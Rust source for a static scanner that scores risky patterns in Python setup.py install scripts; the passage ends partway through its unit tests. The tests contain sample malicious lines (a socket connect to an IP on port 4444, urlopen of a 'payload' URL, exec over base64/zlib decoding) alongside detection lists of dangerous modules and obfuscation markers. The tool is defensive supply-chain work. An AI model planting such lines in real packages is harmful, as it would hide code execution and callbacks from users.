//! Static risk scan of package install scripts.
//!
//! The scanner is lexical, not a Python parser: it tokenizes line by
//! line, tracking string/comment state, bracket depth and backslash
//! continuations, and runs pattern passes over the token stream. That
//! keeps it total on malformed or deliberately obfuscated files a real
//! parser would reject. Imports assembled from string fragments are
//! invisible to it.
//!
//! Detected indicators:
//!
//! * `IMPORT_AT_INSTALL` — any import outside the packaging allowlist;
//! * `DANGEROUS_IMPORT` — the imported module can touch the system
//!   (subprocess, socket, ...);
//! * `NON_SETUP_CALL` — a call at indent 0 and bracket depth 0 whose
//!   callee is not `setup`;
//! * `CMDCLASS_OVERRIDE` — a `cmdclass` keyword to `setup(...)`, or a
//!   class inheriting an install/develop/egg_info command class;
//! * `NETWORK_AT_INSTALL` — socket connects, URL opens, or literal
//!   IP:port endpoints;
//! * `OBFUSCATED_EXEC` — `exec`/`eval` over decode/decompress chains.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::path::{Path, PathBuf};

use rayon::prelude::*;
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum FlagKind {
    ImportAtInstall,
    DangerousImport,
    NonSetupCall,
    CmdclassOverride,
    NetworkAtInstall,
    ObfuscatedExec,
}

impl FlagKind {
    pub const ALL: [FlagKind; 6] = [
        FlagKind::ImportAtInstall,
        FlagKind::DangerousImport,
        FlagKind::NonSetupCall,
        FlagKind::CmdclassOverride,
        FlagKind::NetworkAtInstall,
        FlagKind::ObfuscatedExec,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            FlagKind::ImportAtInstall => "IMPORT_AT_INSTALL",
            FlagKind::DangerousImport => "DANGEROUS_IMPORT",
            FlagKind::NonSetupCall => "NON_SETUP_CALL",
            FlagKind::CmdclassOverride => "CMDCLASS_OVERRIDE",
            FlagKind::NetworkAtInstall => "NETWORK_AT_INSTALL",
            FlagKind::ObfuscatedExec => "OBFUSCATED_EXEC",
        }
    }
}

impl fmt::Display for FlagKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Flag {
    pub kind: FlagKind,
    pub line: usize,
    pub detail: String,
}

#[derive(Debug, Clone, Serialize)]
pub struct ScriptFindings {
    pub path: PathBuf,
    pub flags: Vec<Flag>,
    /// Top-level modules imported outside the allowlist.
    pub imported_modules: BTreeSet<String>,
    pub risk_score: u64,
    /// Input was not valid UTF-8 and was decoded lossily.
    pub decode_warning: bool,
}

impl ScriptFindings {
    pub fn has(&self, kind: FlagKind) -> bool {
        self.flags.iter().any(|f| f.kind == kind)
    }

    pub fn kinds(&self) -> BTreeSet<FlagKind> {
        self.flags.iter().map(|f| f.kind).collect()
    }
}

/// Per-kind risk weights; the score of a script is the weighted flag sum.
#[derive(Debug, Clone, Copy, Deserialize, Serialize)]
#[serde(default)]
pub struct ScanWeights {
    #[serde(rename = "IMPORT_AT_INSTALL")]
    pub import_at_install: u64,
    #[serde(rename = "DANGEROUS_IMPORT")]
    pub dangerous_import: u64,
    #[serde(rename = "NON_SETUP_CALL")]
    pub non_setup_call: u64,
    #[serde(rename = "CMDCLASS_OVERRIDE")]
    pub cmdclass_override: u64,
    #[serde(rename = "NETWORK_AT_INSTALL")]
    pub network_at_install: u64,
    #[serde(rename = "OBFUSCATED_EXEC")]
    pub obfuscated_exec: u64,
}

impl Default for ScanWeights {
    fn default() -> Self {
        ScanWeights {
            import_at_install: 1,
            dangerous_import: 3,
            non_setup_call: 2,
            cmdclass_override: 5,
            network_at_install: 8,
            obfuscated_exec: 10,
        }
    }
}

impl ScanWeights {
    pub fn weight(&self, kind: FlagKind) -> u64 {
        match kind {
            FlagKind::ImportAtInstall => self.import_at_install,
            FlagKind::DangerousImport => self.dangerous_import,
            FlagKind::NonSetupCall => self.non_setup_call,
            FlagKind::CmdclassOverride => self.cmdclass_override,
            FlagKind::NetworkAtInstall => self.network_at_install,
            FlagKind::ObfuscatedExec => self.obfuscated_exec,
        }
    }

    pub fn score(&self, flags: &[Flag]) -> u64 {
        flags.iter().map(|f| self.weight(f.kind)).sum()
    }
}

#[derive(Debug, Clone)]
pub struct ScanConfig {
    /// Imports that are part of packaging itself and never flagged.
    pub allowlist: BTreeSet<String>,
    /// Modules whose import at install time is flagged as dangerous.
    pub dangerous_modules: BTreeSet<String>,
    pub weights: ScanWeights,
    /// File name matched by [`scan_tree`].
    pub setup_file_name: String,
}

impl Default for ScanConfig {
    fn default() -> Self {
        let dangerous = [
            "os", "sys", "subprocess", "shutil", "socket", "glob", "urllib", "requests", "ctypes",
        ];
        ScanConfig {
            allowlist: ["setuptools", "distutils"]
                .into_iter()
                .map(str::to_owned)
                .collect(),
            dangerous_modules: dangerous.into_iter().map(str::to_owned).collect(),
            weights: ScanWeights::default(),
            setup_file_name: "setup.py".to_owned(),
        }
    }
}

// ─── Tokenizer ──────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    /// Start of a logical line, with the indent of its first physical line.
    NewLogical(usize),
    Ident(String),
    Str(String),
    Num(String),
    Punct(char),
}

fn is_string_prefix(word: &str) -> bool {
    !word.is_empty()
        && word.len() <= 2
        && word
            .chars()
            .all(|c| matches!(c.to_ascii_lowercase(), 'r' | 'b' | 'f' | 'u'))
}

fn tokenize(source: &str) -> Vec<(usize, Tok)> {
    let mut toks: Vec<(usize, Tok)> = Vec::new();
    let mut in_string: Option<(char, bool)> = None; // (quote, triple)
    let mut str_buf = String::new();
    let mut str_line = 0usize;
    let mut depth = 0usize;
    let mut pending_logical = true;

    for (idx, raw_line) in source.lines().enumerate() {
        let line_no = idx + 1;
        let chars: Vec<char> = raw_line.chars().collect();
        let indent = chars
            .iter()
            .take_while(|c| c.is_whitespace())
            .count();
        let mut i = 0usize;
        let mut line_continues = false;

        while i < chars.len() {
            if let Some((quote, triple)) = in_string {
                let c = chars[i];
                if c == '\\' {
                    if i + 1 < chars.len() {
                        str_buf.push(chars[i + 1]);
                        i += 2;
                    } else {
                        i += 1;
                    }
                    continue;
                }
                if c == quote
                    && (!triple
                        || (chars.get(i + 1) == Some(&quote) && chars.get(i + 2) == Some(&quote)))
                {
                    toks.push((str_line, Tok::Str(std::mem::take(&mut str_buf))));
                    in_string = None;
                    i += if triple { 3 } else { 1 };
                } else {
                    str_buf.push(c);
                    i += 1;
                }
                continue;
            }

            let c = chars[i];
            if c.is_whitespace() {
                i += 1;
                continue;
            }
            if c == '#' {
                break;
            }
            if c == '\\' && chars[i + 1..].iter().all(|ch| ch.is_whitespace()) {
                line_continues = true;
                break;
            }
            if c == '\'' || c == '"' {
                if pending_logical {
                    toks.push((line_no, Tok::NewLogical(indent)));
                    pending_logical = false;
                }
                let triple = chars.get(i + 1) == Some(&c) && chars.get(i + 2) == Some(&c);
                in_string = Some((c, triple));
                str_line = line_no;
                i += if triple { 3 } else { 1 };
                continue;
            }
            if c.is_alphabetic() || c == '_' {
                let start = i;
                while i < chars.len() && (chars[i].is_alphanumeric() || chars[i] == '_') {
                    i += 1;
                }
                let word: String = chars[start..i].iter().collect();
                // A short r/b/f/u run glued to a quote is a string prefix,
                // not an identifier.
                if i < chars.len()
                    && (chars[i] == '\'' || chars[i] == '"')
                    && is_string_prefix(&word)
                {
                    continue;
                }
                if pending_logical {
                    toks.push((line_no, Tok::NewLogical(indent)));
                    pending_logical = false;
                }
                toks.push((line_no, Tok::Ident(word)));
                continue;
            }
            if c.is_ascii_digit() {
                let start = i;
                while i < chars.len()
                    && (chars[i].is_alphanumeric() || chars[i] == '.' || chars[i] == '_')
                {
                    i += 1;
                }
                if pending_logical {
                    toks.push((line_no, Tok::NewLogical(indent)));
                    pending_logical = false;
                }
                toks.push((line_no, Tok::Num(chars[start..i].iter().collect())));
                continue;
            }
            if pending_logical {
                toks.push((line_no, Tok::NewLogical(indent)));
                pending_logical = false;
            }
            match c {
                '(' | '[' | '{' => depth += 1,
                ')' | ']' | '}' => depth = depth.saturating_sub(1),
                _ => {}
            }
            toks.push((line_no, Tok::Punct(c)));
            i += 1;
        }

        if let Some((_, triple)) = in_string {
            if triple {
                str_buf.push('\n');
            } else {
                // Unterminated one-line string; close it so the rest of
                // the file still gets scanned.
                toks.push((str_line, Tok::Str(std::mem::take(&mut str_buf))));
                in_string = None;
            }
        }
        if in_string.is_none() && !line_continues && depth == 0 {
            pending_logical = true;
        }
    }
    if in_string.is_some() {
        toks.push((str_line, Tok::Str(str_buf)));
    }
    toks
}

// ─── Detection passes ───────────────────────────────────────────────

const OBFUSCATION_MARKERS: &[&str] = &[
    "decode",
    "decompress",
    "base64",
    "b64decode",
    "b32decode",
    "b16decode",
    "a85decode",
    "zlib",
    "bz2",
    "lzma",
    "codecs",
    "rot13",
    "rot_13",
    "unhexlify",
    "fromhex",
];

const NETWORK_CALLEES: &[&str] = &["connect", "create_connection", "urlopen", "urlretrieve"];
const NETWORK_PREFIXES: &[&str] = &["requests.", "httpx."];
const COMMAND_BASE_CLASSES: &[&str] = &["install", "develop", "egg_info"];

/// Dotted name ending just before token `open_idx` (an opening paren):
/// `("os.path.join", "join")`.
fn dotted_before(toks: &[(usize, Tok)], open_idx: usize) -> Option<(String, String)> {
    let mut parts: Vec<&str> = Vec::new();
    let mut i = open_idx;
    loop {
        if i == 0 {
            break;
        }
        let Tok::Ident(word) = &toks[i - 1].1 else {
            break;
        };
        parts.push(word);
        if i >= 2 && toks[i - 2].1 == Tok::Punct('.') {
            i -= 2;
        } else {
            break;
        }
    }
    if parts.is_empty() {
        return None;
    }
    let last = parts[0].to_owned();
    parts.reverse();
    Some((parts.join("."), last))
}

fn is_ipv4(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts.iter().all(|p| {
            !p.is_empty()
                && p.len() <= 3
                && p.bytes().all(|b| b.is_ascii_digit())
                && p.parse::<u16>().map(|v| v <= 255).unwrap_or(false)
        })
}

fn is_ip_port(s: &str) -> bool {
    match s.rsplit_once(':') {
        Some((ip, port)) => {
            is_ipv4(ip)
                && !port.is_empty()
                && port.len() <= 5
                && port.bytes().all(|b| b.is_ascii_digit())
        }
        None => false,
    }
}

fn matching_close(toks: &[(usize, Tok)], open_idx: usize) -> usize {
    let mut depth = 0usize;
    for (i, (_, tok)) in toks.iter().enumerate().skip(open_idx) {
        match tok {
            Tok::Punct('(' | '[' | '{') => depth += 1,
            Tok::Punct(')' | ']' | '}') => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return i;
                }
            }
            _ => {}
        }
    }
    toks.len()
}

struct Collector {
    flags: Vec<Flag>,
    seen: BTreeSet<(FlagKind, usize, String)>,
}

impl Collector {
    fn new() -> Self {
        Collector {
            flags: Vec::new(),
            seen: BTreeSet::new(),
        }
    }

    fn flag(&mut self, kind: FlagKind, line: usize, detail: impl Into<String>) {
        let detail = detail.into();
        if self.seen.insert((kind, line, detail.clone())) {
            self.flags.push(Flag { kind, line, detail });
        }
    }
}

/// Imports: `import a.b, c` and `from x.y import z`, anywhere a statement
/// can start (new logical line, or after `;` / `:` at depth 0).
fn scan_imports(
    toks: &[(usize, Tok)],
    config: &ScanConfig,
    out: &mut Collector,
    modules: &mut BTreeSet<String>,
) {
    let mut stmt_start = false;
    let mut depth = 0usize;
    let mut i = 0usize;
    while i < toks.len() {
        let (line, tok) = &toks[i];
        match tok {
            Tok::NewLogical(_) => {
                stmt_start = true;
                i += 1;
                continue;
            }
            Tok::Punct('(' | '[' | '{') => depth += 1,
            Tok::Punct(')' | ']' | '}') => depth = depth.saturating_sub(1),
            Tok::Punct(';' | ':') if depth == 0 => {
                stmt_start = true;
                i += 1;
                continue;
            }
            Tok::Ident(word) if stmt_start && word == "import" => {
                i += 1;
                // Comma-separated dotted names, each optionally aliased.
                loop {
                    let Some((_, Tok::Ident(module))) = toks.get(i) else {
                        break;
                    };
                    record_import(module, *line, config, out, modules);
                    i += 1;
                    while matches!(toks.get(i), Some((_, Tok::Punct('.'))))
                        && matches!(toks.get(i + 1), Some((_, Tok::Ident(_))))
                    {
                        i += 2;
                    }
                    if matches!(toks.get(i), Some((_, Tok::Ident(w))) if w == "as")
                        && matches!(toks.get(i + 1), Some((_, Tok::Ident(_))))
                    {
                        i += 2;
                    }
                    if matches!(toks.get(i), Some((_, Tok::Punct(',')))) {
                        i += 1;
                    } else {
                        break;
                    }
                }
                stmt_start = false;
                continue;
            }
            Tok::Ident(word) if stmt_start && word == "from" => {
                // `from . import x` is a relative (local) import.
                if let Some((_, Tok::Ident(module))) = toks.get(i + 1) {
                    if module != "import" {
                        record_import(module, *line, config, out, modules);
                    }
                }
                stmt_start = false;
                i += 1;
                continue;
            }
            _ => {}
        }
        if !matches!(tok, Tok::NewLogical(_)) {
            stmt_start = false;
        }
        i += 1;
    }
}

fn record_import(
    module: &str,
    line: usize,
    config: &ScanConfig,
    out: &mut Collector,
    modules: &mut BTreeSet<String>,
) {
    if config.allowlist.contains(module) {
        return;
    }
    modules.insert(module.to_owned());
    out.flag(FlagKind::ImportAtInstall, line, module);
    if config.dangerous_modules.contains(module) {
        out.flag(FlagKind::DangerousImport, line, module);
    }
}

/// Calls, setup cmdclass keywords, command-class subclassing, network
/// references and exec/eval obfuscation, in one walk with a bracket
/// stack (`Some(callee)` for call parens).
fn scan_calls(toks: &[(usize, Tok)], out: &mut Collector) {
    let mut stack: Vec<Option<String>> = Vec::new();
    let mut logical_indent = 0usize;
    let mut first_of_logical: Option<String> = None;
    let mut expect_first = false;

    let mut i = 0usize;
    while i < toks.len() {
        let (line, tok) = &toks[i];
        match tok {
            Tok::NewLogical(indent) => {
                logical_indent = *indent;
                first_of_logical = None;
                expect_first = true;
                stack.clear();
            }
            Tok::Ident(word) => {
                if expect_first {
                    first_of_logical = Some(word.clone());
                    expect_first = false;
                    if word == "class" {
                        scan_class_header(toks, i, out);
                    }
                }
                if word == "cmdclass"
                    && matches!(toks.get(i + 1), Some((_, Tok::Punct('='))))
                    && !matches!(toks.get(i + 2), Some((_, Tok::Punct('='))))
                {
                    let inside_setup = stack
                        .iter()
                        .rev()
                        .flatten()
                        .next()
                        .is_some_and(|callee| callee == "setup");
                    if inside_setup {
                        out.flag(FlagKind::CmdclassOverride, *line, "cmdclass keyword to setup");
                    }
                }
                if (word == "exec" || word == "eval")
                    && !matches!(toks.get(i + 1), Some((_, Tok::Punct('('))))
                {
                    // Statement form: scan to the end of the logical line.
                    let end = toks[i..]
                        .iter()
                        .position(|(_, t)| matches!(t, Tok::NewLogical(_)))
                        .map(|p| i + p)
                        .unwrap_or(toks.len());
                    check_obfuscation(&toks[i + 1..end], word, *line, out);
                }
            }
            Tok::Punct('(') => {
                let callee = dotted_before(toks, i);
                if let Some((full, last)) = &callee {
                    let top_level = stack.is_empty() && logical_indent == 0;
                    let header = matches!(first_of_logical.as_deref(), Some("def" | "class"));
                    if top_level && !header && last != "setup" {
                        out.flag(FlagKind::NonSetupCall, *line, full.clone());
                    }
                    if NETWORK_CALLEES.contains(&last.as_str())
                        || NETWORK_PREFIXES.iter().any(|p| full.starts_with(p))
                    {
                        out.flag(FlagKind::NetworkAtInstall, *line, full.clone());
                    }
                    if last == "exec" || last == "eval" {
                        let close = matching_close(toks, i);
                        check_obfuscation(&toks[i + 1..close], last, *line, out);
                    }
                }
                if expect_first {
                    first_of_logical = Some("(".to_owned());
                    expect_first = false;
                }
                stack.push(callee.map(|(_, last)| last));
            }
            Tok::Punct('[' | '{') => {
                if expect_first {
                    first_of_logical = Some(tok_char(tok).to_string());
                    expect_first = false;
                }
                stack.push(None);
            }
            Tok::Punct(')' | ']' | '}') => {
                stack.pop();
            }
            Tok::Str(content) => {
                if expect_first {
                    first_of_logical = Some(String::new());
                    expect_first = false;
                }
                if is_ip_port(content) {
                    out.flag(FlagKind::NetworkAtInstall, *line, content.clone());
                } else if is_ipv4(content) {
                    // Tuple endpoint: ("10.0.0.1", 4444)
                    if matches!(toks.get(i + 1), Some((_, Tok::Punct(','))))
                        && matches!(toks.get(i + 2), Some((_, Tok::Num(_))))
                    {
                        out.flag(FlagKind::NetworkAtInstall, *line, content.clone());
                    }
                }
            }
            Tok::Num(_) | Tok::Punct(_) => {
                if expect_first {
                    first_of_logical = Some(tok_char(tok).to_string());
                    expect_first = false;
                }
            }
        }
        i += 1;
    }
}

fn tok_char(tok: &Tok) -> char {
    match tok {
        Tok::Punct(c) => *c,
        _ => ' ',
    }
}

/// Bases of `class Name(Base, pkg.other):` — flag command-class bases.
fn scan_class_header(toks: &[(usize, Tok)], class_idx: usize, out: &mut Collector) {
    let line = toks[class_idx].0;
    // class <name> ( bases ) :
    let mut i = class_idx + 1;
    if !matches!(toks.get(i), Some((_, Tok::Ident(_)))) {
        return;
    }
    i += 1;
    if !matches!(toks.get(i), Some((_, Tok::Punct('(')))) {
        return;
    }
    let close = matching_close(toks, i);
    let mut j = i + 1;
    while j < close {
        if let (_, Tok::Ident(word)) = &toks[j] {
            // Last component of a dotted base name.
            let mut last = word.clone();
            while matches!(toks.get(j + 1), Some((_, Tok::Punct('.'))))
                && matches!(toks.get(j + 2), Some((_, Tok::Ident(_))))
            {
                j += 2;
                if let (_, Tok::Ident(part)) = &toks[j] {
                    last = part.clone();
                }
            }
            if COMMAND_BASE_CLASSES.contains(&last.as_str()) {
                out.flag(
                    FlagKind::CmdclassOverride,
                    line,
                    format!("class inherits {last}"),
                );
            }
        }
        j += 1;
    }
}

fn check_obfuscation(args: &[(usize, Tok)], callee: &str, line: usize, out: &mut Collector) {
    let marker = args.iter().find_map(|(_, tok)| match tok {
        Tok::Ident(word) if OBFUSCATION_MARKERS.contains(&word.as_str()) => Some(word.clone()),
        Tok::Str(s) => {
            let lower = s.to_lowercase();
            OBFUSCATION_MARKERS
                .iter()
                .find(|m| lower.contains(*m))
                .map(|m| m.to_string())
        }
        _ => None,
    });
    if let Some(marker) = marker {
        out.flag(
            FlagKind::ObfuscatedExec,
            line,
            format!("{callee} over {marker}"),
        );
    }
}

// ─── Entry points ───────────────────────────────────────────────────

/// Scan one script. Total: any text input produces findings.
pub fn scan_script(source: &str, config: &ScanConfig) -> ScriptFindings {
    let toks = tokenize(source);
    let mut collector = Collector::new();
    let mut modules = BTreeSet::new();
    scan_imports(&toks, config, &mut collector, &mut modules);
    scan_calls(&toks, &mut collector);

    let mut flags = collector.flags;
    flags.sort_by(|a, b| (a.line, a.kind, &a.detail).cmp(&(b.line, b.kind, &b.detail)));
    let risk_score = config.weights.score(&flags);
    ScriptFindings {
        path: PathBuf::new(),
        flags,
        imported_modules: modules,
        risk_score,
        decode_warning: false,
    }
}

/// Scan raw bytes, decoding lossily when they are not valid UTF-8.
pub fn scan_bytes(bytes: &[u8], config: &ScanConfig) -> ScriptFindings {
    let decoded = String::from_utf8_lossy(bytes);
    let decode_warning = matches!(decoded, std::borrow::Cow::Owned(_));
    let mut findings = scan_script(&decoded, config);
    findings.decode_warning = decode_warning;
    findings
}

#[derive(Debug, Clone, Serialize)]
pub struct ScanIssue {
    pub path: PathBuf,
    pub error: String,
}

#[derive(Debug, Clone, Default, Serialize)]
pub struct ScanTreeReport {
    pub findings: Vec<ScriptFindings>,
    /// Unreadable files; the rest of the tree is still scanned.
    pub errors: Vec<ScanIssue>,
}

/// Scan every matching script under `root` in deterministic path order.
pub fn scan_tree(root: impl AsRef<Path>, config: &ScanConfig) -> ScanTreeReport {
    let mut paths = Vec::new();
    let mut report = ScanTreeReport::default();
    for entry in walkdir::WalkDir::new(root.as_ref()).sort_by_file_name() {
        match entry {
            Ok(entry) => {
                if entry.file_type().is_file()
                    && entry.file_name().to_string_lossy() == config.setup_file_name
                {
                    paths.push(entry.into_path());
                }
            }
            Err(e) => report.errors.push(ScanIssue {
                path: e.path().map(Path::to_path_buf).unwrap_or_default(),
                error: e.to_string(),
            }),
        }
    }
    paths.sort();

    let scans: Vec<Result<ScriptFindings, ScanIssue>> = paths
        .par_iter()
        .map(|path| match std::fs::read(path) {
            Ok(bytes) => {
                let mut findings = scan_bytes(&bytes, config);
                findings.path = path.clone();
                Ok(findings)
            }
            Err(e) => Err(ScanIssue {
                path: path.clone(),
                error: e.to_string(),
            }),
        })
        .collect();
    for scan in scans {
        match scan {
            Ok(findings) => report.findings.push(findings),
            Err(issue) => report.errors.push(issue),
        }
    }
    report
}

/// Corpus-level aggregate: how many scripts raise each flag kind, and
/// which modules get imported at install time most.
#[derive(Debug, Clone, Default, Serialize)]
pub struct CorpusSummary {
    pub scripts: u64,
    pub flag_script_counts: BTreeMap<FlagKind, u64>,
    pub flag_fractions: BTreeMap<FlagKind, f64>,
    pub top_imports: Vec<(String, u64)>,
}

pub fn corpus_summary(findings: &[ScriptFindings]) -> CorpusSummary {
    let mut summary = CorpusSummary {
        scripts: findings.len() as u64,
        ..Default::default()
    };
    let mut imports: BTreeMap<&str, u64> = BTreeMap::new();
    for f in findings {
        for kind in f.kinds() {
            *summary.flag_script_counts.entry(kind).or_default() += 1;
        }
        for module in &f.imported_modules {
            *imports.entry(module).or_default() += 1;
        }
    }
    if summary.scripts > 0 {
        for (kind, count) in &summary.flag_script_counts {
            summary
                .flag_fractions
                .insert(*kind, *count as f64 / summary.scripts as f64);
        }
    }
    let mut ranked: Vec<(String, u64)> = imports
        .into_iter()
        .map(|(m, c)| (m.to_owned(), c))
        .collect();
    ranked.sort_by(|a, b| b.1.cmp(&a.1).then_with(|| a.0.cmp(&b.0)));
    summary.top_imports = ranked;
    summary
}

/// CSV rows: path, kind, line, detail.
pub fn findings_to_csv(findings: &[ScriptFindings]) -> String {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["path", "kind", "line", "detail"])
        .expect("csv header");
    for f in findings {
        for flag in &f.flags {
            w.write_record([
                f.path.to_string_lossy().to_string(),
                flag.kind.to_string(),
                flag.line.to_string(),
                flag.detail.clone(),
            ])
            .expect("csv row");
        }
    }
    String::from_utf8(w.into_inner().expect("csv flush")).expect("csv utf8")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(source: &str) -> ScriptFindings {
        scan_script(source, &ScanConfig::default())
    }

    #[test]
    fn minimal_setup_is_clean() {
        let findings = scan("from setuptools import setup\nsetup(name=\"pkg\")\n");
        assert!(findings.flags.is_empty(), "{:?}", findings.flags);
        assert_eq!(findings.risk_score, 0);
        assert!(findings.imported_modules.is_empty());
    }

    #[test]
    fn install_time_imports_are_flagged() {
        let findings = scan("import os, json\nfrom requests import get\n");
        assert!(findings.has(FlagKind::ImportAtInstall));
        assert!(findings.has(FlagKind::DangerousImport));
        assert_eq!(
            findings.imported_modules,
            ["os", "json", "requests"]
                .into_iter()
                .map(str::to_owned)
                .collect()
        );
        // json is not dangerous.
        let dangerous: Vec<&str> = findings
            .flags
            .iter()
            .filter(|f| f.kind == FlagKind::DangerousImport)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(dangerous, ["os", "requests"]);
    }

    #[test]
    fn dotted_and_aliased_imports_use_top_module() {
        let findings = scan("import os.path as p, urllib.request\n");
        assert_eq!(
            findings.imported_modules,
            ["os", "urllib"].into_iter().map(str::to_owned).collect()
        );
    }

    #[test]
    fn relative_import_is_ignored() {
        let findings = scan("from . import helpers\n");
        assert!(findings.flags.is_empty());
    }

    #[test]
    fn import_in_function_and_one_liner() {
        let findings = scan("def f():\n    import subprocess\n\ntry: import socket\nexcept ImportError: pass\n");
        let details: Vec<&str> = findings
            .flags
            .iter()
            .filter(|f| f.kind == FlagKind::DangerousImport)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(details, ["subprocess", "socket"]);
    }

    #[test]
    fn strings_and_comments_do_not_import() {
        let findings = scan(concat!(
            "DESC = \"import os\"\n",
            "# import subprocess\n",
            "LONG = \"\"\"\nimport socket\n\"\"\"\n",
            "setup = None\n",
        ));
        assert!(findings.flags.is_empty(), "{:?}", findings.flags);
    }

    #[test]
    fn non_setup_calls_at_top_level() {
        let findings = scan(concat!(
            "from setuptools import setup\n",
            "version = compute_version()\n",
            "setup(version=version)\n",
        ));
        let calls: Vec<&str> = findings
            .flags
            .iter()
            .filter(|f| f.kind == FlagKind::NonSetupCall)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(calls, ["compute_version"]);
    }

    #[test]
    fn nested_and_indented_calls_are_not_top_level() {
        let findings = scan(concat!(
            "def helper():\n",
            "    os_system(\"ls\")\n",
            "setup(name=fn(), packages=[find(\"x\")])\n",
        ));
        assert!(!findings.has(FlagKind::NonSetupCall), "{:?}", findings.flags);
    }

    #[test]
    fn setup_spelled_with_module_prefix_is_fine() {
        let findings = scan("import setuptools\nsetuptools.setup(name=\"x\")\n");
        assert!(!findings.has(FlagKind::NonSetupCall));
        // import setuptools is allowlisted.
        assert!(!findings.has(FlagKind::ImportAtInstall));
    }

    #[test]
    fn cmdclass_keyword_and_subclass() {
        let findings = scan(concat!(
            "from setuptools import setup\n",
            "from setuptools.command.install import install\n",
            "class PostInstall(install):\n",
            "    def run(self):\n",
            "        pass\n",
            "setup(cmdclass={\"install\": PostInstall})\n",
        ));
        let overrides: Vec<&str> = findings
            .flags
            .iter()
            .filter(|f| f.kind == FlagKind::CmdclassOverride)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(
            overrides,
            ["class inherits install", "cmdclass keyword to setup"]
        );
    }

    #[test]
    fn cmdclass_outside_setup_not_flagged() {
        let findings = scan("options = dict(cmdclass=None)\n");
        assert!(!findings.has(FlagKind::CmdclassOverride));
        // `x == cmdclass` comparisons are not keywords either.
        let findings = scan("check(cmdclass == other)\n");
        assert!(!findings.has(FlagKind::CmdclassOverride));
    }

    #[test]
    fn network_patterns() {
        let findings = scan("s.connect((\"203.0.113.7\", 4444))\n");
        let nets: Vec<&str> = findings
            .flags
            .iter()
            .filter(|f| f.kind == FlagKind::NetworkAtInstall)
            .map(|f| f.detail.as_str())
            .collect();
        assert_eq!(nets, ["203.0.113.7", "s.connect"]);

        let findings = scan("data = urlopen(\"https://example.com/payload\").read()\n");
        assert!(findings.has(FlagKind::NetworkAtInstall));

        let findings = scan("ADDR = \"198.51.100.23:4444\"\n");
        assert!(findings.has(FlagKind::NetworkAtInstall));

        // A bare dotted-quad with no port context stays quiet.
        let findings = scan("version = \"1.2.3.4\"\n");
        assert!(!findings.has(FlagKind::NetworkAtInstall));
    }

    #[test]
    fn obfuscated_exec_variants() {
        let findings = scan("exec(zlib.decompress(base64.b64decode(d)))\n");
        assert!(findings.has(FlagKind::ObfuscatedExec));
        assert!(findings.has(FlagKind::NonSetupCall));

        let findings = scan("eval(codecs.decode(payload, \"rot13\"))\n");
        assert!(findings.has(FlagKind::ObfuscatedExec));

        // Python 2 statement form.
        let findings = scan("exec data.decode(\"base64\")\n");
        assert!(findings.has(FlagKind::ObfuscatedExec));

        // exec over plain source is not obfuscation.
        let findings = scan("exec(\"x = 1\")\n");
        assert!(!findings.has(FlagKind::ObfuscatedExec));
        assert!(findings.has(FlagKind::NonSetupCall));
    }

    #[test]
    fn multiline_exec_argument_is_tracked() {
        let findings = scan("exec(\n    zlib.decompress(\n        blob))\n");
        assert!(findings.has(FlagKind::ObfuscatedExec));
    }

    #[test]
    fn risk_score_is_weighted_flag_sum() {
        let findings = scan("import subprocess\nsubprocess.call(\"ls\")\n");
        // subprocess: IMPORT(1) + DANGEROUS(3); call: NON_SETUP_CALL(2).
        assert_eq!(findings.risk_score, 6);
        let weights = ScanWeights::default();
        assert_eq!(weights.score(&findings.flags), findings.risk_score);
    }

    #[test]
    fn flag_lines_are_in_range() {
        let source = "import os\n\nfoo()\nexec(zlib.decompress(x))\n";
        let findings = scan(source);
        let lines = source.lines().count();
        assert!(!findings.flags.is_empty());
        assert!(findings
            .flags
            .iter()
            .all(|f| f.line >= 1 && f.line <= lines));
    }

    #[test]
    fn lossy_decode_sets_warning() {
        let config = ScanConfig::default();
        let findings = scan_bytes(b"import os\n\xff\xfe\n", &config);
        assert!(findings.decode_warning);
        assert!(findings.has(FlagKind::DangerousImport));
        let clean = scan_bytes(b"setup()\n", &config);
        assert!(!clean.decode_warning);
    }

    #[test]
    fn scanner_is_deterministic() {
        let source = "import os\ns.connect((\"10.0.0.1\", 9))\nexec(x.decode())\n";
        let a = scan(source);
        let b = scan(source);
        assert_eq!(a.flags, b.flags);
        assert_eq!(a.risk_score, b.risk_score);
    }

    #[test]
    fn tree_scan_is_ordered_and_resilient() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir_all(root.join("b/pkg")).unwrap();
        std::fs::create_dir_all(root.join("a/pkg")).unwrap();
        std::fs::write(root.join("a/pkg/setup.py"), "setup()\n").unwrap();
        std::fs::write(root.join("b/pkg/setup.py"), "import os\nsetup()\n").unwrap();
        std::fs::write(root.join("b/pkg/other.py"), "ignored()\n").unwrap();

        let report = scan_tree(root, &ScanConfig::default());
        assert_eq!(report.findings.len(), 2);
        assert!(report.findings[0].path.ends_with("a/pkg/setup.py"));
        assert!(report.findings[1].path.ends_with("b/pkg/setup.py"));
        assert!(report.errors.is_empty());
    }

    #[test]
    fn empty_tree_scans_to_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let report = scan_tree(dir.path(), &ScanConfig::default());
        assert!(report.findings.is_empty());
    }

    #[test]
    fn summary_counts_scripts_and_imports() {
        let config = ScanConfig::default();
        let corpus = [
            scan_script("import os\nsetup()\n", &config),
            scan_script("import os, six\nsetup()\n", &config),
            scan_script("setup()\n", &config),
            scan_script("setup()\n", &config),
        ];
        let summary = corpus_summary(&corpus);
        assert_eq!(summary.scripts, 4);
